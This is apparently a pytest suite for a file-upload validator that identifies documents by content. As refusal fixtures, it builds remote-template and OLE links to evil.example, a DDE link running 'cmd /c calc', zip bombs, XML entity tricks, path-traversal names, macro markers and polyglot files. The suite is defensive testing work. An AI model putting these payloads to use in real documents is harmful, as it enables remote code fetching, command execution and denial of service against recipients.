"""Files are known by their content: what a name promises has to be inside."""

import io
import time
import tracemalloc
import warnings
import zipfile
from contextlib import suppress

import pytest

from service.actions.file_kinds import _OFFICE_PARTS, MEDIA_TYPES, media_type_of, plain_name
from service.errors import Problem


def archive(*names: str, mimetype: str | None = None) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        if mimetype:
            file.writestr("mimetype", mimetype)
        for name in names:
            file.writestr(name, "content of a part " * 10)
    return made.getvalue()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
REAL = {
    ".pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
    ".docx": archive("[Content_Types].xml", "word/document.xml"),
    ".xlsx": archive("[Content_Types].xml", "xl/workbook.xml"),
    ".pptx": archive("[Content_Types].xml", "ppt/presentation.xml"),
    ".doc": OLE,
    ".xls": OLE,
    ".ppt": OLE,
    ".odt": archive("content.xml", mimetype="application/vnd.oasis.opendocument.text"),
    ".ods": archive("content.xml", mimetype="application/vnd.oasis.opendocument.spreadsheet"),
    ".odp": archive("content.xml", mimetype="application/vnd.oasis.opendocument.presentation"),
    ".csv": "Ward;Zahl\r\nBensham;1\t£\r\n".encode("utf-8-sig"),
    ".txt": "Käse".encode("cp1252"),
    ".png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(20) + b"IEND\xaeB`\x82",
    ".jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01" + bytes(40) + b"\xff\xd9",
    ".jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01" + bytes(40) + b"\xff\xd9",
}


@pytest.mark.parametrize("ending", MEDIA_TYPES)
def test_a_real_file_is_taken_under_its_own_type(ending: str) -> None:
    assert media_type_of(f"Paper{ending.upper()}", REAL[ending]) == MEDIA_TYPES[ending]


@pytest.mark.parametrize("ending", MEDIA_TYPES)
@pytest.mark.parametrize("other", ["program", "page", "archive", "macros", "picture of vectors"])
def test_anything_else_under_that_name_is_refused(ending: str, other: str) -> None:
    content = {
        "program": b"MZ\x90\0\x03\0\0\0" + bytes(200),
        "page": b"<html>\0<script>alert(1)</script>",
        "archive": archive("a.exe"),
        "macros": archive(
            "[Content_Types].xml", "word/document.xml", "xl/workbook.xml", "ppt/presentation.xml", "word/vbaProject.bin"
        ),
        "picture of vectors": b"<svg xmlns='http://www.w3.org/2000/svg'>\0</svg>",
    }[other]
    with pytest.raises(Problem) as refused:
        media_type_of(f"paper{ending}", content)
    assert refused.value.status == 422


@pytest.mark.parametrize(
    "part", ["../../x.xml", "/etc/x", "word\\..\\..\\x", "run.exe", "word/embeddings/A.VBS", "x/y.lnk"]
)
def test_a_document_holds_no_program_and_nothing_that_leads_out_of_it(part: str) -> None:
    for ending in (".docx", ".xlsx", ".pptx"):
        with pytest.raises(Problem):
            media_type_of(f"a{ending}", archive("[Content_Types].xml", *_OFFICE_PARTS.values(), part))
    with pytest.raises(Problem):
        media_type_of("a.odt", archive("content.xml", part, mimetype="application/vnd.oasis.opendocument.text"))
    assert media_type_of(
        "a.docx", archive(*_OFFICE_PARTS.values(), "word/embeddings/oleObject1.bin", "docProps/a.jpeg")
    )


@pytest.mark.parametrize(
    ("ending", "content"),
    [
        (".docm", REAL[".docx"]),
        (".doc", OLE + "_VBA_PROJECT".encode("utf-16-le")),
        (".xls", OLE + "_VBA_PROJECT_CUR".encode("utf-16-le")),
        (".odt", archive("Basic/script-lc.xml", mimetype="application/vnd.oasis.opendocument.text")),
        (".ods", archive("Scripts/python/run.py", mimetype="application/vnd.oasis.opendocument.spreadsheet")),
    ],
)
def test_macros_are_refused_in_each_format(ending: str, content: bytes) -> None:
    with pytest.raises(Problem) as refused:
        media_type_of(f"paper{ending}", content)
    assert refused.value.status == 422


@pytest.mark.parametrize("ending", [".docx", ".ods"])
def test_a_document_that_would_burst_is_refused(ending: str) -> None:
    many = io.BytesIO(REAL[ending])
    with zipfile.ZipFile(many, "a") as file:
        for number in range(10_001):
            file.writestr(f"{number}", b"")
    grown = bytearray(REAL[ending])
    told = grown.rindex(b"PK\x01\x02") + 24  # where the last part's unpacked size is told
    grown[told : told + 4] = (600_000_000).to_bytes(4, "little")
    for content in (many.getvalue(), bytes(grown)):
        with pytest.raises(Problem) as refused:
            media_type_of(f"paper{ending}", content)
        assert refused.value.status == 422


@pytest.mark.parametrize("name", ["run.exe", "page.html", "vector.svg", "macro.docm", "noending", ".docx.js", ""])
def test_other_kinds_are_refused_whatever_is_inside(name: str) -> None:
    with pytest.raises(Problem) as refused:
        media_type_of(name, REAL[".pdf"])
    assert "must be a PDF" in refused.value.detail


@pytest.mark.parametrize(
    ("given", "plain"),
    [
        ("C:\\Users\\Ann\\paper.docx", "paper.docx"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("a\r\nb\x00\u202epaper.pdf", "abpaper.pdf"),
        ("", "file"),
        ("...", "file"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
        ("Käse & Zahlen.csv", "Käse & Zahlen.csv"),
    ],
)
def test_names_lose_folders_tricks_and_excess(given: str, plain: str) -> None:
    assert plain_name(given) == plain


def linked(*links: tuple[str, str, str], mode: str = ' TargetMode="External"', **parts: str) -> bytes:
    """A document with relationships of these kinds: where their parts lie, what they are, and where they lead."""
    made = io.BytesIO(archive("[Content_Types].xml", *_OFFICE_PARTS.values()))
    with zipfile.ZipFile(made, "a") as file:
        for number, (name, kind, target) in enumerate(links):
            said = f'<Relationship Id="r{number}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/>'
            file.writestr(name, f'<?xml version="1.0"?><Relationships xmlns="x">{said}</Relationships>')
        for name, content in parts.items():
            file.writestr(name.replace("__", "/"), content)
    return made.getvalue()


SETTINGS, DOCUMENT, BOOK = "word/_rels/settings.xml.rels", "word/_rels/document.xml.rels", "xl/_rels/workbook.xml.rels"


@pytest.mark.parametrize(
    ("ending", "name", "kind", "target"),
    [
        (".docx", SETTINGS, "attachedTemplate", "https://evil.example/a.dotm"),
        (".docx", SETTINGS, "attachedTemplate", "HTTP&#58;//evil.example/a.dotm"),
        (".docx", SETTINGS, "attachedTemplate", "file:///\\\\evil.example\\share\\a.dotm"),
        (".docx", SETTINGS, "attachedTemplate", "file://evil.example/share/a.dotm"),
        (".docx", SETTINGS, "attachedTemplate", "%5C%5Cevil.example%5Cshare%5Ca.dotm"),
        (".docx", SETTINGS, "attachedTemplate", "mhtml:https://evil.example/a!x"),
        (".docx", "WORD/_RELS/SETTINGS.XML.RELS", "attachedTemplate", "//evil.example/a.dotm"),
        (".docx", DOCUMENT, "frame", "https://evil.example/a.htm"),
        (".docx", DOCUMENT, "subDocument", "https://evil.example/a.docx"),
        (".docx", DOCUMENT, "oleObject", "mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html"),
        (".pptx", "ppt/slides/_rels/slide1.xml.rels", "oleObject", "https://evil.example/a.html!"),
    ],
)
def test_a_document_that_fetches_from_elsewhere_is_refused(ending: str, name: str, kind: str, target: str) -> None:
    with pytest.raises(Problem) as refused:
        media_type_of(f"a{ending}", linked((name, kind, target)))
    assert refused.value.status == 422
    assert "fetches something from elsewhere" in refused.value.detail


def test_a_workbook_that_fetches_or_calls_by_itself_is_refused_and_one_that_asks_is_not() -> None:
    def taken(kind: str, part: str, content: str, target: str | None = None) -> bool:
        book = linked((BOOK, kind, target or part.removeprefix("xl/")), mode="", **{part: content})
        with suppress(Problem):
            return media_type_of("a.xlsx", book) == MEDIA_TYPES[".xlsx"]
        return False

    cells = "<cell/>" * 100_000
    called = '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    book = f'<externalLink xmlns="x"><externalBook r:id="r1" xmlns:r="y"><sheetNames/>{cells}</externalBook></externalLink>'
    assert not taken("externalLink", "xl/externalLinks/externalLink1.xml", called)
    assert not taken("externalLink", "xl/other.xml", called, "/xl/other.xml")
    assert taken("externalLink", "xl/externalLinks/externalLink1.xml", book)
    source = (
        '<connections xmlns="x"><connection id="1"/><x:connection xmlns:x="x" id="2" refreshOnLoad="{}"/></connections>'
    )
    assert not taken("connections", "xl/connections.xml", source.format("1"))
    assert taken("connections", "xl/connections.xml", source.format("0"))
    for ordinary in (
        (SETTINGS, "attachedTemplate", "file:///C:\\Users\\Ann\\Templates\\Report.dotx"),
        (SETTINGS, "attachedTemplate", "C:/Templates/Report.dotx"),
        (SETTINGS, "attachedTemplate", "Templates/Report.dotx"),
        (DOCUMENT, "hyperlink", "https://www.gov.uk/"),
        (DOCUMENT, "oleObject", "file:///\\\\server\\share\\figures.xlsx"),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "https://council.example/book.xlsx"),
    ):
        assert media_type_of("a.docx", linked(ordinary))


def test_relationships_that_cannot_be_read_are_not_taken_on_trust() -> None:
    entity = (
        '<!DOCTYPE r [<!ENTITY a "https://evil.example/">]><Relationships><Relationship Target="&a;"/></Relationships>'
    )
    twice = io.BytesIO(linked((SETTINGS, "attachedTemplate", "https://evil.example/a.dotm")))
    with zipfile.ZipFile(twice, "a") as file, warnings.catch_warnings(action="ignore"):
        file.writestr(SETTINGS, "<Relationships/>")
    with pytest.raises(Problem):
        media_type_of("a.docx", twice.getvalue())
    bursting = "<Relationships>" + "<Relationship/>" * 2_000_000 + "</Relationships>"
    for said in (entity, "<Relationships", "no XML", bursting):
        content = io.BytesIO(REAL[".docx"])
        with zipfile.ZipFile(content, "a", zipfile.ZIP_DEFLATED) as file:
            file.writestr(SETTINGS, said)
        with pytest.raises(Problem):
            media_type_of("a.docx", content.getvalue())


def bomb(part: str, *, kind: str | None = None) -> bytes:
    """A document of some hundred kilobytes that says it holds two hundred megabytes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        if kind is not None:
            file.writestr("mimetype", kind + " " * 100_000_000)
        with file.open(part, "w") as entry:
            for _ in range(100):
                entry.write(bytes(1_000_000))
    return made.getvalue()


def many_names() -> bytes:
    """A document with a part beside which thirty thousand more are named."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        for name in ("[Content_Types].xml", "word/document.xml", *(f"{number}" for number in range(30_000))):
            file.writestr(name, "")
    return made.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bomb.docx", bomb("word/document.xml")),
        ("bomb.odt", bomb("content.xml", kind="application/vnd.oasis.opendocument.text")),
        ("many.docx", many_names()),
    ],
)
def test_a_bomb_is_never_unpacked(name: str, content: bytes) -> None:
    begun = time.process_time()
    tracemalloc.start()
    try:
        with suppress(Problem):
            media_type_of(name, content)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 40_000_000
    assert time.process_time() - begun < 5


def test_a_file_that_is_two_things_is_only_ever_what_its_name_says() -> None:
    page = b"<html><script>alert(1)</script></html>"
    assert media_type_of("a.png", REAL[".png"] + archive("a.exe")) == "image/png"
    assert media_type_of("a.pdf", REAL[".pdf"] + page) == "application/pdf"
    assert media_type_of("a.txt", page) == "text/plain"
    for name, content in (
        ("a.docx", REAL[".png"] + archive("[Content_Types].xml", "word/document.xml")),
        ("a.xlsx", REAL[".docx"]),
        ("a.png", page + REAL[".png"]),
        ("a.jpg", REAL[".png"]),
        ("a.odt", archive("content.xml", mimetype="application/x-msdownload")),
    ):
        with pytest.raises(Problem):
            media_type_of(name, content)
